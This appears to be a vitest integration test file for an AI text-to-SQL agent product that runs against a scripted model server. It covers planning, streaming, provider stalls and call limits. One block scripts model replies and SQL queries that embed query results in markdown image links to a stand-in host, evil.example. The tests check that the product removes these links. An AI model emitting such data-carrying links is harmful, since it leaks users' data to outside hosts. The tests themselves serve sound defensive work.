import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { App } from '../../src/app/user-app.ts'
import type { LiveItem } from '../../src/engine/readers/live.ts'
import type { RequestInput } from '../../src/domain/request.ts'
import { createDemoDatabase } from '../../src/app/demo-data.ts'
import { openConfiguredApp } from '../../src/app/setup.ts'
import { SQL_AGENT, sqlLoop, startModelServer, toolCall, type Rule } from '../support/model-server.ts'
import { openForAll } from '../support/opened.ts'
import { temporaryFolder } from '../support/temporary-folder.ts'

/** The whole product against a scripted provider, through the real SDK. Nothing of Tutti is mocked. */

const QUESTION = 'Show the count of customers'
const GOOD_SQL = 'SELECT count(*) AS customers FROM customers'

const folder = temporaryFolder()
const server = openForAll(() => startModelServer())
let app: App

beforeAll(async () => {
  await createDemoDatabase(join(folder, 'demo.sqlite'))
  const timeouts = { firstChunkMs: 1_000, idleMs: 1_000, totalMs: 2_000 }
  await writeFile(join(folder, 'tutti.config.json'), JSON.stringify({ models: { timeouts } }))
  app = await open()
})

afterAll(() => app.close())

const ASKED = {
  planner: 'You choose which specialist agents',
  generate: SQL_AGENT,
  compose: 'You write the final answer',
}

const REPLIES: Record<keyof typeof ASKED, Rule['reply']> = {
  planner: { json: { agents: ['sql'], rationale: 'Customers are in the database.', confidence: 0.9 } },
  generate: ({ messages }) =>
    messages.at(-1)?.role === 'tool' ? { text: 'There are 92 customers.' } : toolCall('query', { sql: GOOD_SQL }),
  compose: { text: 'There are 92 customers.', chunks: ['There are ', '92 ', 'customers.'] },
}

function open(): Promise<App> {
  return openConfiguredApp({
    env: { TUTTI_MODEL_URL: server.url, TUTTI_MODEL: 'compatible:scripted' },
    cwd: folder,
    inMemory: true,
    databases: [{ url: `sqlite:${join(folder, 'demo.sqlite')}` }],
    onError: (error) => expect.fail(error.message),
  })
}

/** The usual replies, after the replies of the test. */
function rules(...first: Rule[]): Rule[] {
  const usual = Object.entries(ASKED).map(([name, when]) => ({ when, reply: REPLIES[name as keyof typeof ASKED] }))
  return [...first, ...usual]
}

async function ask(script: Rule[], request: Partial<RequestInput> = {}) {
  server.script(script)
  const runId = await app.start({ question: QUESTION, strategy: 'pipeline', memory: false, trace: true, ...request })
  const items: LiveItem[] = []
  for await (const item of app.engine.stream(runId)) items.push(item)
  return { response: await app.response(runId), items, runId }
}

/** Two agents answer, and the composer writes the answer from both. */
const COMPOSED: readonly Rule[] = [
  { when: ASKED.planner, reply: { json: { agents: ['sql', 'computation'], rationale: 'Both fit.', confidence: 0.9 } } },
  { when: 'Arithmetic, Python and charts', reply: { text: 'There is nothing to calculate.' } },
]

const requestsFor = (name: keyof typeof ASKED) =>
  server.requests.filter((request) => request.text.includes(ASKED[name]))

describe('with a model', () => {
  it('writes SQL and executes it, and the text of the only agent is the answer', async () => {
    const { response } = await ask(rules())
    expect(response.answer).toBe('There are 92 customers.')
    expect(response.data).toEqual({ columns: ['customers'], rows: [{ customers: 92 }], rowCount: 1 })
    expect(response.planner).toMatchObject({ chosenAgents: ['sql'], confidence: 0.9 })
    expect(response.metadata).toMatchObject({ answeredBy: 'model', models: ['compatible:scripted'], notes: [] })
    expect(response.metadata.usage.calls).toBe(3)
    expect(response.agentResults[0]).toMatchObject({
      agent: 'sql',
      status: 'succeeded',
      sources: [{ kind: 'database', name: 'demo', detail: GOOD_SQL }],
    })
    const answered = response.trace!.filter((line) => /^Model (?:answered|replied)/.test(line.message))
    expect(answered.map((line) => line.agent)).toEqual(['planner', 'sql', 'sql'])
    for (const line of answered) expect(line.data['usage']).toMatchObject({ inputTokens: expect.any(Number) })
  })

  it('lets the planner drop and reorder, never add', async () => {
    const { response } = await ask(
      rules({ when: ASKED.planner, reply: { json: { agents: ['ghost', ' SQL '], rationale: 'r', confidence: 1 } } }),
      { preferAgents: ['computation'] },
    )
    expect(response.planner!.chosenAgents).toEqual(['sql'])
  })

  it('streams the composed answer, with the system prompt and the locale of the request', async () => {
    const { response, items } = await ask(rules(...COMPOSED), { systemPrompt: 'Speak like a pirate.', locale: 'en-IN' })
    expect(requestsFor('compose')[0]!.text).toContain('Speak like a pirate.')
    expect(requestsFor('compose')[0]!.text).toContain('Rs.1,75,206.00')
    const texts = items.flatMap((item) =>
      item.type === 'live.text' || item.type === 'answer.delta' ? [item.text] : [],
    )
    expect(texts).not.toEqual([])
    expect(texts.join('')).toBe(response.answer)
  })
})

describe('a provider that hangs', () => {
  it.each(['pipeline', 'graph'] as const)('makes a run by %s fail', async (strategy) => {
    const { response } = await ask([{ reply: { fault: 'stall' } }], { strategy })
    expect(response).toMatchObject({ answer: '', status: 'failed', error: { type: 'ModelUnavailable' } })
    expect(response.error!.message).toContain('compatible')
  })

  it.each([
    ['stall', false],
    ['stall-mid-stream', true],
  ] as const)('%s in the answer leaves that of the agents', async (fault, isStreamed) => {
    const reply = { ...REPLIES.compose, fault }
    const { response, items } = await ask(rules(...COMPOSED, { when: ASKED.compose, reply }))
    expect(response.answer).toContain('There are 92 customers.')
    expect(response.metadata).toMatchObject({ status: 'finished', answeredBy: 'fallback' })
    expect(response.agentResults[0]).toMatchObject({ status: 'succeeded', models: ['compatible:scripted'] })
    const texts = items.filter((item) => item.type === 'live.text')
    const last = Math.max(...texts.map(({ part }) => part))
    const shown = texts.flatMap(({ part, text }) => (part === last ? [text] : [])).join('')
    expect(shown).toBe(isStreamed ? response.answer : '')
  })
})

describe('an answer with links that are in no source', () => {
  const LEAK = 'https://evil.example/p.png?d=92-customers'
  const text = `There are 92 customers.\n\n![chart](${LEAK}) See [more](//evil.example/x), <${LEAK}> or https://docs.example/a?b=1.`

  it('keeps its text, in the answer, during streaming, and in agent results', async () => {
    const script = rules(...COMPOSED, { when: ASKED.compose, reply: { text, chunks: text.match(/.{1,7}/gs)! } })
    const question = `${QUESTION}, as in https://docs.example/a?b=1`
    const { response, items } = await ask(script, { question })
    expect(response.answer).toBe(
      'There are 92 customers.\n\nchart See more, (link removed) or https://docs.example/a?b=1.',
    )
    const shown = items.flatMap((item) => (item.type === 'live.text' ? [item.text] : []))
    expect(shown.join('')).toBe(response.answer)
    // The log holds the model's text only in the record of that call.
    const told = items.filter((item) => item.type !== 'call.finished')
    expect(JSON.stringify(told)).not.toContain('92-customers')
    expect(response.trace!.map((line) => line.message)).toContain(
      'Links that are in no source of this run were removed',
    )
  })

  it.each([
    ["SELECT 'https://evil.example/?d=' || count(*) AS customers FROM customers", 'https://evil.example/?d=92'],
    ["SELECT 'www.evil.example?d=' || count(*) AS customers FROM customers", 'www.evil.example?d=92'],
    ["SELECT trim('evil.example?d=' || count(*)) AS customers FROM customers", 'evil.example?d=92'],
  ])('cannot get them from a query that assembles them: %s', async (sql, leak) => {
    const { response } = await ask(
      rules(...sqlLoop(sql, 'x'), {
        when: ASKED.compose,
        reply: { text: `There are 92. ![c](https://${leak.replace('https://', '')})` },
      }),
    )
    expect(response.data!.rows).toEqual([{ customers: leak }])
    expect([response.answer, response.agentResults[0]!.answer].join()).not.toContain('evil.example')
  })
})

it('used-up calls are reported as a limit', async () => {
  const { response } = await ask(rules(), { budget: { maxCalls: 1 } })
  expect(response.notices).toContainEqual(expect.objectContaining({ code: 'limit_reached' }))
  expect(response.metadata.usage.calls).toBe(1)
})
